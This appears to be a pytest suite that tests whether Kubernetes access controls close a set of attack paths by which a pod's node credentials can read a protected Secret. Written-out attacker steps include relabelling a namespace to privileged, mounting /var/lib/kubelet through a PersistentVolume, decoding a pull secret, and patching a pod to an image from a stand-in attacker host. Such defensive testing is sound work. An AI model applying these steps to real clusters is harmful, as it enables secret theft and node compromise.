"""Ways through pods and their nodes. There is no kubelet: its credential asks the API server for what a pod mounts.

The Node authorizer lets a kubelet read a Secret only while a pod that is bound to its node names it. So a Secret that it
reads after the attacker's act, and not before, is one that the attacker's pod is given.
"""

from __future__ import annotations

import base64
import json
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from tests.access.demonstrations.stage import Attempt, Stage, demonstrate, is_refused, reads
from tests.support.controlplane.access import RefusedError, eventually

STRATEGIC = {"Content-Type": "application/strategic-merge-patch+json"}
LEVEL = "pod-security.kubernetes.io/enforce"


def _core(namespace: str, plural: str) -> str:
    return f"/api/v1/namespaces/{namespace}/{plural}"


def _spec(**more: Any) -> dict[str, Any]:
    container: dict[str, Any] = {"name": "peek", "image": "registry.example/peek:1"}
    container["envFrom"] = [{"secretRef": {"name": "crown-jewel"}}]
    return {"containers": [container], **more}


def _as_kubelet(stage: Stage) -> str:
    """Read the Secret as the kubelet of the node, as soon as the API server has seen the pod that names it."""
    found: list[str] = []

    def read() -> bool:
        try:
            found.append(stage.jewel(stage.kubelet()))
        except RefusedError:
            return False
        return True

    eventually(read, "the node may read the Secret of its pod")
    return found[0]


def _placed(stage: Stage, label: str) -> str:
    """Place the pod that a controller made of the attacker's template, and read the Secret as its kubelet."""
    path = f"{_core(stage.vault, 'pods')}?labelSelector={label}"

    def waiting() -> list[str]:
        pods = stage.admin.get(path)["items"]
        return [p["metadata"]["name"] for p in pods if not p["spec"].get("nodeName") and "envFrom" in json.dumps(p)]

    eventually(lambda: bool(waiting()), "the controller made the pod")
    stage.place(stage.vault, waiting()[0])
    return _as_kubelet(stage)


def _create_pod(stage: Stage) -> str:
    assert is_refused(stage, lambda at: at.jewel(at.kubelet()))
    name = f"peek-{uuid.uuid4().hex[:6]}"
    stage.attacker().create(_core(stage.vault, "pods"), {"metadata": {"name": name}, "spec": _spec()})
    stage.place(stage.vault, name)
    return _as_kubelet(stage)


def _create_job(stage: Stage) -> str:
    name = f"peek-{uuid.uuid4().hex[:6]}"
    spec = {"template": {"metadata": {"labels": {"peek": name}}, "spec": _spec(restartPolicy="Never")}}
    path = f"/apis/batch/v1/namespaces/{stage.vault}/jobs"
    stage.attacker().create(path, {"metadata": {"name": name}, "spec": spec})
    return _placed(stage, f"peek={name}")


def _change_deployment(stage: Stage) -> str:
    path = f"/apis/apps/v1/namespaces/{stage.vault}/deployments/web"
    changed = {"spec": {"template": {"spec": _spec()}}}
    stage.attacker().call("PATCH", path, changed, STRATEGIC)
    return _placed(stage, "app=web")


def _patch_pod(stage: Stage) -> str:
    image = {"spec": {"containers": [{"name": "main", "image": "attacker.example/peek:1"}]}}
    path = f"{_core(stage.vault, 'pods')}/web"
    changed = stage.attacker().call("PATCH", path, image, STRATEGIC)
    assert changed["spec"]["containers"][0]["image"] == "attacker.example/peek:1"
    return _as_kubelet(stage)


def _debug(stage: Stage) -> str:
    path = f"{_core(stage.vault, 'pods')}/web/ephemeralcontainers"
    name = f"peek-{uuid.uuid4().hex[:6]}"
    container = {**_spec()["containers"][0], "name": name}
    stage.attacker().call("PATCH", path, {"spec": {"ephemeralContainers": [container]}}, STRATEGIC)
    return _as_kubelet(stage)


def _steal(stage: Stage) -> str:
    target = {"apiVersion": "v1", "kind": "Node", "name": stage.node}
    body = {"apiVersion": "v1", "kind": "Binding", "metadata": {"name": "web"}, "target": target}
    path = f"{_core(stage.vault, 'pods')}/web"
    if not stage.admin.get(path)["spec"].get("nodeName"):
        stage.attacker().create(f"{path}/binding", body)
        return _as_kubelet(stage)
    stage.attacker().create(f"{path}/binding?dryRun=All", body)
    return ""


def _privileged(stage: Stage) -> str:
    attacker, name = stage.attacker(), f"root-{uuid.uuid4().hex[:6]}"
    pod = {
        "metadata": {"name": name},
        "spec": {
            "nodeName": stage.node,
            "containers": [{"name": "root", "image": "busybox", "securityContext": {"privileged": True}}],
        },
    }
    path = _core(stage.outside, "pods")
    stage.admin.call("PATCH", f"/api/v1/namespaces/{stage.outside}", _labelled("baseline"), STRATEGIC)
    eventually(lambda: is_refused(stage, lambda _: str(attacker.create(f"{path}?dryRun=All", pod))), "it is refused")
    attacker.call("PATCH", f"/api/v1/namespaces/{stage.outside}", _labelled("privileged"), STRATEGIC)
    eventually(lambda: attacker.request("POST", path, pod)[0] == 201, "it is admitted")
    return _as_kubelet(stage)


def _labelled(level: str) -> dict[str, Any]:
    return {"metadata": {"labels": {LEVEL: level}}}


def _mount_volume(stage: Stage) -> str:
    attacker, name = stage.attacker(), f"{stage.own('attack')}-{uuid.uuid4().hex[:6]}"
    claim = {"namespace": stage.outside, "name": name}
    size = {"storage": "1Gi"}
    folder = {"capacity": size, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/var/lib/kubelet"}}
    attacker.create("/api/v1/persistentvolumes", {"metadata": {"name": name}, "spec": {**folder, "claimRef": claim}})
    wanted = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": size}, "volumeName": name}
    wanted["storageClassName"] = ""
    attacker.create(_core(stage.outside, "persistentvolumeclaims"), {"metadata": {"name": name}, "spec": wanted})
    spec = {"nodeName": stage.node, "containers": [{"name": "peek", "image": "busybox"}]}
    direct = {**spec, "volumes": [{"name": "node", "hostPath": {"path": "/var/lib/kubelet"}}]}
    through = {**spec, "volumes": [{"name": "node", "persistentVolumeClaim": {"claimName": name}}]}
    path = _core(stage.outside, "pods")
    assert is_refused(stage, lambda _: str(attacker.create(path, {"metadata": {"name": name}, "spec": direct})))
    attacker.create(path, {"metadata": {"name": name}, "spec": through})
    claims = _core(stage.outside, "persistentvolumeclaims")
    eventually(lambda: stage.admin.get(f"{claims}/{name}")["status"]["phase"] == "Bound", "the claim is bound")
    found = _as_kubelet(stage)
    stage.admin.delete(f"{path}/{name}?gracePeriodSeconds=0")
    stage.admin.delete(f"/api/v1/persistentvolumes/{name}")
    return found


def _own_token(stage: Stage) -> str:
    path = _core(stage.outside, "pods") + "/web"
    pod = stage.admin.get(path)
    bound = {"kind": "Pod", "apiVersion": "v1", "name": "web", "uid": pod["metadata"]["uid"]}
    body = {"spec": {"boundObjectRef": bound}}
    accounts = _core(stage.outside, "serviceaccounts")
    token = stage.kubelet().create(f"{accounts}/web/token", body)["status"]["token"]
    assert "serviceAccountToken" in json.dumps(pod["spec"]["volumes"])
    return stage.jewel(stage.bearing(token))


def _given(stage: Stage) -> str:
    return stage.jewel(stage.kubelet())


def _given_config_map(stage: Stage) -> str:
    return json.dumps(stage.kubelet().get(_core(stage.vault, "configmaps") + "/settings"))


def _pull_secret(stage: Stage) -> str:
    data = json.loads(stage.jewel(stage.kubelet()))["data"]
    return base64.b64decode(data[".dockerconfigjson"]).decode()


def _privileged_agent(stage: Stage) -> str:
    container = {"name": "root", "image": "busybox", "securityContext": {"privileged": True}}
    body = {"metadata": {"generateName": "agent-"}, "spec": {"nodeName": stage.node, "containers": [container]}}
    stage.admin.create(_core(stage.outside, "pods"), body)
    return _as_kubelet(stage)


ATTEMPTS: dict[str, Attempt] = {
    "workloads-create": _create_job,
    "workloads-change": _change_deployment,
    "pods-patch": _patch_pod,
    "pods-ephemeral-containers": _debug,
    "pods-steal": _steal,
    "namespaces-patch": _privileged,
    "persistent-volumes": _mount_volume,
    "runs-as": _own_token,
    "consumes-secret": _given,
    "consumes-config-map": _given_config_map,
    "node-pods": _pull_secret,
    "container-to-node": _privileged_agent,
}


@pytest.mark.parametrize("way", ATTEMPTS)
def test_way(way: str, stage: Callable[[str], Stage]) -> None:
    """The attacker reads the planted value by this way, and is refused once it is closed."""
    demonstrate(stage(way), ATTEMPTS[way])


def test_pods_create(stage: Callable[[str], Stage]) -> None:
    """A node reads a Secret only since the attacker's pod on it names it; the attacker is refused later."""
    scene = stage("pods-create")
    scene.put("setup")
    eventually(
        lambda: scene.attacker().request("POST", _core(scene.vault, "pods") + "?dryRun=All", _dry())[0] == 201, ""
    )

    assert reads(scene, _create_pod)

    scene.put("fixed")
    eventually(lambda: is_refused(scene, lambda at: str(at.attacker().create(_core(at.vault, "pods"), _dry()))), "")


def _dry() -> dict[str, Any]:
    return {"metadata": {"generateName": "dry-"}, "spec": _spec()}


def test_a_debug_container_may_name_any_secret(stage: Callable[[str], Stage]) -> None:
    """Before the debug container names the Secret, the pod's node may not read it."""
    scene = stage("pods-ephemeral-containers")
    scene.put("setup")

    assert is_refused(scene, lambda at: at.jewel(at.kubelet()))
    eventually(lambda: reads(scene, _debug), "the way is open")


def test_a_job_keeps_its_template(stage: Callable[[str], Stage]) -> None:
    """The template of a Job cannot be given another ServiceAccount, not even while it is suspended."""
    scene = stage("workloads-create")
    scene.put("setup")
    jobs = f"/apis/batch/v1/namespaces/{scene.vault}/jobs"
    template = {"spec": {"restartPolicy": "Never", "containers": [{"name": "main", "image": "busybox"}]}}
    scene.admin.create(jobs, {"metadata": {"name": "waits"}, "spec": {"suspend": True, "template": template}})
    changes: list[dict[str, Any]] = [{"serviceAccountName": "deployer"}, _spec()]

    statuses = [
        scene.admin.request("PATCH", f"{jobs}/waits", {"spec": {"template": {"spec": change}}}, STRATEGIC)[0]
        for change in changes
    ]

    assert statuses == [422, 422]


def test_no_pod_changes_what_it_mounts(stage: Callable[[str], Stage]) -> None:
    """A running pod can be given another image, but no other variables and no other ServiceAccount."""
    scene = stage("pods-patch")
    scene.put("setup")
    path = _core(scene.vault, "pods") + "/web"
    image = {"containers": [{"name": "main", "image": "attacker.example/peek:1"}]}
    variables = {"containers": [{"name": "main", "envFrom": [{"secretRef": {"name": "other"}}]}]}

    statuses = [
        scene.admin.request("PATCH", f"{path}?dryRun=All", {"spec": change}, STRATEGIC)[0]
        for change in (image, variables, {"serviceAccountName": "deployer"})
    ]

    assert statuses == [200, 422, 422]


def test_a_node_changes_only_itself(stage: Callable[[str], Stage]) -> None:
    """NodeRestriction keeps a kubelet from another node, from its own taints, and from labels that are protected."""
    scene = stage("node-pods")
    scene.put("setup")
    other = f"{scene.node}-other"
    scene.admin.create("/api/v1/nodes", {"metadata": {"name": other}})
    kubelet, nodes = scene.kubelet(), "/api/v1/nodes"
    own = {"metadata": {"labels": {"example.com/mine": "yes"}}}
    protected = {"metadata": {"labels": {"node-restriction.kubernetes.io/vault": "yes"}}}
    taints = {"spec": {"taints": [{"key": "mine", "effect": "NoExecute"}]}}

    answers = [
        kubelet.request("PATCH", f"{nodes}/{name}?dryRun=All", change, STRATEGIC)[0]
        for name, change in ((scene.node, own), (scene.node, protected), (scene.node, taints), (other, own))
    ]
    scene.admin.delete(f"{nodes}/{other}")

    assert answers == [200, 403, 403, 403]
